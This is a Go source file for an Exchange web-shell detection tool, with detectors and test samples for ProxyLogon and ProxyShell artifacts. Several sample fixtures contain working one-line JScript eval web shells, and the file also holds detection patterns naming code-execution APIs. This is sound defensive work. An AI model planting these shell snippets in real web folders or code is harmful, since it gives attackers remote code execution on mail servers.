package heuristic

import (
	"bytes"
	"regexp"
	"strings"

	"github.com/exhunt/exhunt/detect/files"
	"github.com/exhunt/exhunt/finding"
	"github.com/exhunt/exhunt/internal/filegen"
)

const (
	refHafnium    = "https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-exchange-servers/"
	refCSS        = "https://github.com/microsoft/CSS-Exchange/tree/main/Security"
	refProxyShell = "https://www.huntress.com/blog/rapid-response-microsoft-exchange-servers-still-vulnerable-to-proxyshell-exploit"
	refCertLV     = "https://github.com/cert-lv/exchange_webshell_detection"
)

// oabURL finds an OAB URL property whose value carries a server-side
// script: "ExternalUrl : http://f/<script ... runat=server>" in the text
// dump, or <S N="ExternalUrl">...<script ...> in a CliXml export.
var oabURL = regexp.MustCompile(`(?i)(external|internal)url["']?\s*(>|:|=)\s*["']?[^\r\n<]{0,200}<script[^>]{0,120}runat\s*=\s*["']?server`)

// oabProps are OAB virtual directory properties; two of them make a file a
// settings dump rather than a page that mentions a URL.
var oabProps = [][]byte{
	[]byte("offlineaddressbooks"), []byte("internalauthenticationmethods"), []byte("extendedprotectiontokenchecking"),
	[]byte("pollinterval"), []byte("requiressl"), []byte("metabasepath"),
}

const oabDump = `Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
MetabasePath                    : IIS://EX99.example.test/W3SVC/1/ROOT/OAB
ExtendedProtectionTokenChecking : None
InternalUrl                     : https://ex99.example.test/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : `

var oabDumpShell = &files.Detector{
	Advisory: finding.Advisory{
		ID:          "EXH-FILE-01",
		Title:       "OAB virtual directory settings dump with a server-side script (ProxyLogon web shell)",
		Description: "CVE-2021-27065: the attacker puts a script element in the OAB virtual directory's ExternalUrl, then has Reset-OABVirtualDirectory export the settings into a web folder; the export runs as a page.",
		Severity:    finding.Critical,
		Stage:       finding.StageWrite,
		Campaign:    "ProxyLogon",
		CVEs:        []string{"CVE-2021-27065"},
		Techniques:  []string{"T1505.003", "T1190"},
		References:  []string{refHafnium, refCSS},
	},
	Match: func(t *files.Target) (files.Hit, bool) {
		if t.Size > 4<<20 {
			return files.Hit{}, false
		}
		// The regexp is case-insensitive with bounded repeats: Go runs it on
		// its NFA at about 20 MB/s, and it was most of a file hunt's CPU.
		// Every match names ExternalUrl or InternalUrl, which ordinary pages
		// do not ("runat" would not do: every ASP.NET page has it).
		if !containsFold(t.Head, "externalurl") && !containsFold(t.Head, "internalurl") {
			return files.Hit{}, false
		}
		loc := oabURL.FindIndex(t.Head)
		if loc == nil {
			return files.Hit{}, false
		}
		lower := bytes.ToLower(t.Head)
		props := 0
		for _, p := range oabProps {
			if bytes.Contains(lower, p) {
				props++
			}
		}
		if props < 2 {
			return files.Hit{}, false
		}
		prop := "ExternalUrl"
		if bytes.HasPrefix(lower[loc[0]:], []byte("internal")) {
			prop = "InternalUrl"
		}
		h := files.Hit{Offset: loc[0], Fields: fields("url_property", prop)}
		if m, _, ok := codeExecution(t.Head[loc[0]:]); ok {
			h.Fields["code"] = m
		}
		return h, true
	},
	Samples: []files.Sample{
		{Path: "FrontEnd/HttpProxy/OAB/log.aspx", Place: "oab", Match: true, Note: "text dump, JScript eval in ExternalUrl",
			Data: []byte(oabDump + `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>` + "\r\n")},
		{Path: "inetpub/wwwroot/aspnet_client/system_web/x.aspx", Place: "aspnet_client", Match: true, Note: "CliXml export, InternalUrl",
			Data: []byte(`<Objs><Obj><MS><I32 N="PollInterval">480</I32><S N="RequireSSL">True</S><S N="InternalUrl">http://g/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script></S></MS></Obj></Objs>`)},
		{Path: "ProgramData/oab-settings.txt", Place: "programdata", Match: false, Note: "an admin's export of the same settings with plain URLs",
			Data: []byte(oabDump + "https://mail.example.test/OAB\r\n")},
		{Path: "inetpub/wwwroot/help.aspx", Place: "wwwroot", Match: false, Note: "a page that names ExternalUrl and has a server script but is no dump",
			Data: []byte(`<script runat="server">string ExternalUrl = "https://mail.example.test/owa";</script><p>RequireSSL</p>`)},
	},
}

// Container heads of ProxyShell's dropped pages.
var (
	pstMagic = []byte("!BDN")
	derMagic = []byte{0x30, 0x82}
)

// containerExts are the page extensions ProxyShell's exports used; .cer is
// left out on purpose (a DER certificate named .cer is just a certificate).
var containerExts = map[string]bool{".aspx": true, ".ashx": true, ".asmx": true, ".asp": true, ".svc": true, ".soap": true}

// pageNeedles are server-side markers searched in a whole container.
var pageNeedles = [][]byte{
	[]byte("runat=\"server\""), []byte("runat=server"), []byte("runat='server'"), []byte("RUNAT=SERVER"), []byte("runat=\"Server\""),
	[]byte("<%@ Page"), []byte("<%@Page"), []byte("Page Language="), []byte("<%@ WebHandler"),
}

// binaryHead reports a head whose first 8 bytes hold a byte no text page
// starts with, leaving out byte-order marks (SB-F18's dropper artifact).
func binaryHead(h []byte) bool {
	if bytes.HasPrefix(h, []byte{0xef, 0xbb, 0xbf}) || bytes.HasPrefix(h, []byte{0xff, 0xfe}) || bytes.HasPrefix(h, []byte{0xfe, 0xff}) {
		return false
	}
	for _, c := range h[:min(8, len(h))] {
		if c < 0x09 || c > 0x0d && c < 0x20 || c == 0x7f {
			return true
		}
	}
	return false
}

var containerPage = &files.Detector{
	Advisory: finding.Advisory{
		ID:          "EXH-FILE-02",
		Title:       "Web page inside a mailbox export or certificate request (ProxyShell web shell)",
		Description: "ProxyShell actors wrote shells with New-MailboxExportRequest (a PST, !BDN) or New-ExchangeCertificate -RequestFile (DER) into a web folder under a page name; the page's script sits in the container's bytes.",
		Severity:    finding.High,
		Stage:       finding.StageWrite,
		Campaign:    "ProxyShell",
		CVEs:        []string{"CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"},
		Techniques:  []string{"T1505.003", "T1190"},
		References:  []string{refProxyShell},
	},
	Match: func(t *files.Target) (files.Hit, bool) {
		var container string
		switch {
		case bytes.HasPrefix(t.Head, pstMagic):
			container = "pst"
		case bytes.HasPrefix(t.Head, derMagic):
			container = "der"
		case binaryHead(t.Head) && !knownBinary(t.Head):
			container = "binary"
		default:
			return files.Hit{}, false
		}
		needle, off, marked := findAny(t, 64<<20, pageNeedles...)
		named := containerExts[t.Ext()]
		switch {
		case container == "binary" && !(marked && named):
			return files.Hit{}, false // a binary page name alone is not enough: thumbnails, caches
		case !marked && !named:
			return files.Hit{}, false
		}
		h := files.Hit{Offset: int(off), Fields: fields("container", container, "page_marker", string(needle))}
		if marked {
			h.Severity = finding.Critical
		}
		return h, true
	},
	Samples: []files.Sample{
		{Path: "FrontEnd/HttpProxy/owa/auth/x3nq.aspx", Place: "owa_auth", Match: true, Note: "mailbox export with a JScript page inside",
			Data: filegen.PST([]byte(`<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>`))},
		{Path: "inetpub/wwwroot/aspnet_client/csr.aspx", Place: "aspnet_client", Match: true, Note: "certificate request with a page in its subject",
			Data: filegen.DER([]byte(`<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>`))},
		{Path: "inetpub/wwwroot/aspnet_client/ex.aspx", Place: "aspnet_client", Match: true, Note: "a PST named .aspx, no marker in reach: the name alone",
			Data: filegen.PST([]byte("only mail here"))},
		{Path: "ProgramData/exports/alice.pst", Place: "programdata", Match: false, Note: "an ordinary mailbox export",
			Data: filegen.PST([]byte("Subject: quarterly numbers"))},
		{Path: "ProgramData/certs/server.cer", Place: "programdata", Match: false, Note: "a DER certificate named .cer",
			Data: filegen.DER([]byte("CN=mail.example.test"))},
		{Path: "inetpub/wwwroot/logo.aspx", Place: "wwwroot", Match: false, Note: "a PNG behind a page name, no server markers",
			Data: []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")},
	},
}

// knownBinary recognises formats whose heads are binary and that are not
// page containers: images, archives, executables, Office documents.
func knownBinary(h []byte) bool {
	for _, m := range [][]byte{
		[]byte("\x89PNG"), []byte("GIF8"), []byte("\xff\xd8\xff"), []byte("PK\x03\x04"), []byte("Rar!"), []byte("7z\xbc\xaf"),
		[]byte("\x1f\x8b"), []byte("MZ"), []byte("\xd0\xcf\x11\xe0"), []byte("MSCF"), []byte("\xd4\xc3\xb2\xa1"), []byte("\x00\x00\x01\x00"),
	} {
		if bytes.HasPrefix(h, m) {
			return true
		}
	}
	return false
}

// owaAuthShipped are the pages Exchange 2013-2019 install directly in
// FrontEnd\HttpProxy\owa\auth (lower case). Current\ and the version
// folders ship only static resources.
var owaAuthShipped = map[string]bool{
	"errorfe.aspx": true, "expiredpassword.aspx": true, "frowny.aspx": true, "logoff.aspx": true, "logon.aspx": true,
	"outlookcn.aspx": true, "redirsuiteserviceproxy.aspx": true, "signout.aspx": true, "getidtoken.htm": true,
}

var unexpectedPage = &files.Detector{
	Advisory: finding.Advisory{
		ID:          "EXH-FILE-03",
		Title:       "Page where Exchange ships none (aspnet_client, owa/auth, ecp/auth)",
		Description: "Exchange ships no page in aspnet_client (only legacy web.config files), only TimeoutLogoff.aspx in ecp/auth and a handful of pages in owa/auth (static files in Current and the version folders). HAFNIUM, ProxyShell and ProxyNotShell actors dropped their shells there. Medium on its own; high when the file also looks like code execution.",
		Severity:    finding.Medium,
		Stage:       finding.StageWrite,
		Campaign:    "HAFNIUM",
		Techniques:  []string{"T1505.003"},
		References:  []string{refHafnium, refCertLV},
	},
	Places: []string{placeAspnetClient, placeOWAAuth, placeECPAuth},
	Match: func(t *files.Target) (files.Hit, bool) {
		name := strings.ToLower(t.Name)
		code, at, exec := codeExecution(t.Head)
		h := files.Hit{Offset: at, Fields: fields("code", code)}
		if exec {
			h.Severity = finding.High
		}
		switch t.Place {
		case placeAspnetClient:
			if name == "web.config" {
				// Not one of the known-good configs (those never get here).
				if !exec && !bytes.Contains(bytes.ToLower(t.Head), []byte("scriptprocessor")) && !bytes.Contains(t.Head, []byte("<%")) {
					h.Severity = finding.Low
					h.Fields["why"] = "web.config not on the known-good list"
				} else {
					h.Severity = finding.High
					h.Fields["why"] = "web.config that runs code"
				}
				return h, true
			}
			h.Fields["why"] = "aspnet_client holds no files but legacy web.config"
			return h, true
		case placeECPAuth:
			if name == "timeoutlogoff.aspx" {
				return files.Hit{}, false
			}
			h.Fields["why"] = "ecp/auth holds only TimeoutLogoff.aspx"
			return h, true
		case placeOWAAuth:
			if !isPage(t) {
				return files.Hit{}, false
			}
			// Below owa/auth: Current/, a version folder. A path without
			// owa/auth in it (a single file handed over) sits directly there.
			p := strings.ToLower(t.Path)
			sub := ""
			if i := strings.Index(p, "/owa/auth/"); i >= 0 {
				sub = p[i+len("/owa/auth/"):]
			}
			if strings.Contains(sub, "/") {
				h.Fields["why"] = "a page in owa/auth/" + sub[:strings.IndexByte(sub, '/')] + ", which ships static files only"
				return h, true
			}
			if owaAuthShipped[name] && !exec {
				return files.Hit{}, false
			}
			h.Fields["why"] = "owa/auth page Exchange does not ship"
			if owaAuthShipped[name] {
				h.Fields["why"] = "Exchange page name, but its content runs code"
			}
			return h, true
		}
		return files.Hit{}, false
	},
	Samples: []files.Sample{
		{Path: "C/inetpub/wwwroot/aspnet_client/system_web/errorcheck.aspx", Place: placeAspnetClient, Match: true, Note: "a page in aspnet_client",
			Data: []byte(`<%@ Page Language="C#" %><html><body>ok</body></html>`)},
		{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth/y.aspx", Place: placeECPAuth, Match: true, Note: "anything but TimeoutLogoff.aspx in ecp/auth",
			Data: []byte(`<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>`)},
		{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/lgnbotl.aspx", Place: placeOWAAuth, Match: true, Note: "a page among static resources",
			Data: []byte(`<%@ Page Language="C#" %>`)},
		{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookRU.aspx", Place: placeOWAAuth, Match: true, Note: "a look-alike page name",
			Data: []byte(`<%@ Page Language="C#" %><html/>`)},
		{Path: "OutlookRU.aspx", Place: placeOWAAuth, Match: true, Note: "a single file handed over: its place came from its location",
			Data: []byte(`<%@ Page Language="C#" %><html/>`)},
		{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx", Place: placeECPAuth, Match: false, Note: "the one page ecp/auth ships",
			Data: []byte(`<%@ Page Language="C#" Inherits="Microsoft.Exchange.HttpProxy.TimeoutLogoff" %>`)},
		{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx", Place: placeOWAAuth, Match: false, Note: "Exchange's logon page",
			Data: []byte(`<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %><html><body><form action="/owa/auth.owa" method="POST"></form></body></html>`)},
		{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/15.1.2106/themes/resources/logon.css", Place: placeOWAAuth, Match: false, Note: "static resources are expected",
			Data: []byte(`body { font-family: "Segoe UI"; }`)},
	},
}

// compiledPath finds a virtual path under aspnet_client or an auth folder
// in a compiled page: ~/aspnet_client/..., ~/auth/..., or the .compiled
// file's virtualPath="/aspnet_client/..." and ".../owa/auth/...".
var compiledPath = regexp.MustCompile(`(?i)(~?/aspnet_client/[a-z0-9_./ -]{1,200}|~/auth/[a-z0-9_./ -]{1,200}|/(owa|ecp)/auth/[a-z0-9_./ -]{1,200})`)

// compiledExec finds the .NET names a compiled shell references.
var compiledExec = regexp.MustCompile(`JScriptEvaluate|Microsoft\.JScript|System\.Diagnostics\.Process|ProcessStartInfo|SaveAs|get_Files|Assembly\.Load|CompileAssemblyFromSource`)

var compiledLeftover = &files.Detector{
	Advisory: finding.Advisory{
		ID:          "EXH-FILE-04",
		Title:       "ASP.NET compiled a page from aspnet_client or an auth folder (shell leftover)",
		Description: "ASP.NET keeps compiled copies of every page it ran under Temporary ASP.NET Files (App_Web_*.dll, *.compiled). A copy naming a page in aspnet_client, or an owa/ecp auth page Exchange does not ship, shows a shell ran there, even after the .aspx was deleted.",
		Severity:    finding.High,
		Stage:       finding.StageExecution,
		Campaign:    "HAFNIUM",
		Techniques:  []string{"T1505.003"},
		References:  []string{"https://github.com/Neo23x0/signature-base/blob/master/yara/apt_hafnium.yar", refHafnium},
	},
	Places: []string{placeTempASPNET},
	Match: func(t *files.Target) (files.Hit, bool) {
		name := strings.ToLower(t.Name)
		var text []byte
		switch {
		case strings.HasSuffix(name, ".compiled"):
			text = t.Head
		case strings.HasPrefix(name, "app_web_") && bytes.HasPrefix(t.Head, []byte("MZ")):
			text = append(asciiOf(t.Head), asciiOf(t.Tail)...)
		default:
			return files.Hit{}, false
		}
		for _, m := range compiledPath.FindAll(text, 16) {
			vp := strings.TrimRight(string(m), " .")
			page := strings.ToLower(vp[strings.LastIndexByte(vp, '/')+1:])
			exec := compiledExec.Find(text)
			inClient := strings.Contains(strings.ToLower(vp), "/aspnet_client/")
			if !inClient && page != "" && (owaAuthShipped[page] || page == "timeoutlogoff.aspx") && exec == nil {
				continue // Exchange's own page, compiled as it should be
			}
			if page == "" || !strings.Contains(page, ".") {
				continue
			}
			return files.Hit{Excerpt: "compiled page " + vp, Offset: -1, Fields: fields("virtual_path", vp, "code", string(exec))}, true
		}
		return files.Hit{}, false
	},
	Samples: []files.Sample{
		{Path: "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1a/2b/App_Web_x4f2bdqm.dll", Place: placeTempASPNET, Match: true, Note: "compiled China Chopper from aspnet_client",
			Data: filegen.PE([]string{"App_Web_x4f2bdqm", "Microsoft.JScript", "JScriptEvaluate", "get_Request"}, []string{"~/aspnet_client/system_web/log.aspx"})},
		{Path: "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c/3d/shel.aspx.cdcab7d2.compiled", Place: placeTempASPNET, Match: true, Note: "the .compiled map of an unshipped owa/auth page",
			Data: []byte(`<?xml version="1.0" encoding="utf-8"?><preserve resultType="3" virtualPath="/owa/auth/shel.aspx" hash="1b2c" filehash="3d4e" flags="110000" assembly="App_Web_shel.aspx.cdcab7d2" type="ASP.auth_shel_aspx"></preserve>`)},
		{Path: "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c/3d/App_Web_logon.aspx.cdcab7d2.dll", Place: placeTempASPNET, Match: false, Note: "Exchange's logon page, compiled",
			Data: filegen.PE([]string{"App_Web_logon.aspx.cdcab7d2", "Microsoft.Exchange.HttpProxy"}, []string{"~/auth/logon.aspx"})},
		{Path: "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/7e/1f/App_Web_default.aspx.cdcab7d2.dll", Place: placeTempASPNET, Match: false, Note: "a page of another application",
			Data: filegen.PE([]string{"App_Web_default.aspx.cdcab7d2"}, []string{"~/default.aspx"})},
	},
}

// asciiOf keeps printable ASCII and turns UTF-16LE text into its ASCII,
// so one regexp finds strings written either way; other bytes become
// separators.
func asciiOf(b []byte) []byte {
	out := make([]byte, 0, len(b))
	for i := 0; i < len(b); i++ {
		c := b[i]
		switch {
		case c >= 0x20 && c < 0x7f:
			out = append(out, c)
			if i+1 < len(b) && b[i+1] == 0 {
				i++ // UTF-16LE: skip the high byte
			}
		default:
			if len(out) > 0 && out[len(out)-1] != '\n' {
				out = append(out, '\n')
			}
		}
	}
	return out
}

// containsFold reports whether b contains the lower-case ASCII word w,
// ignoring ASCII case, without allocating.
func containsFold(b []byte, w string) bool {
	first := w[0]
	for i := 0; i+len(w) <= len(b); i++ {
		if b[i]|0x20 != first {
			continue
		}
		j := 1
		for j < len(w) && b[i+j]|0x20 == w[j] {
			j++
		}
		if j == len(w) {
			return true
		}
	}
	return false
}
